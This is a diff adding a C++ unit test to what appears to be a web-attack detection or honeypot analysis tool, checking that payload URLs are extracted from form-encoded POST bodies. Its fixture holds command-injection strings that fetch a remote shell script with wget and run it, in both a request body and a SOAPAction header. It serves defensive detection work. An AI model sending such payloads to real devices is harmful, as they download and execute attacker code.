@@ -207,6 +207,19 @@ TEST(ModelTest, UrlsInHeadersArePayloadsOnlyInsideACommandOrLookup) {
                                      "ldap://45.61.185.24:1389/b", "http://45.61.185.25/s.sh"));
 }
 
+TEST(ModelTest, ABodyWithoutContentTypeIsDecodedAsAForm) {
+  // Exploit scripts post "cmd=wget+http://..." without a Content-Type: '+' is a space there,
+  // or the URL reported would run on into the command ("http://5.6.7.8/bins.sh+-O-").
+  core::Event e = testutil::event("hp-web-01", testutil::kRce, testutil::kDay, "POST", "/GponForm",
+                                  {testutil::rule(932100, "Remote Command Execution")});
+  e.request_headers = {{"Host", "shop.example.com"},
+                       {"SOAPAction", "http://purenetworks.com/HNAP1/`wget http://5.6.7.9/h.sh`"}};
+  e.request_body = "dest_host=`busybox+wget+http://5.6.7.8/bins.sh+-O+/tmp/gaf;sh+/tmp/gaf`";
+  const Evidence ev = evidenceOf(e, FoldOptions{});
+  EXPECT_THAT(ev.payload_urls,
+              ::testing::ElementsAre("http://5.6.7.8/bins.sh", "http://5.6.7.9/h.sh"));
+}
+
 TEST(ModelTest, HttpRequestObjectsFollowTheTemplateAndAreBounded) {
   auto cat = testutil::catalog();
   std::vector<core::Event> many;
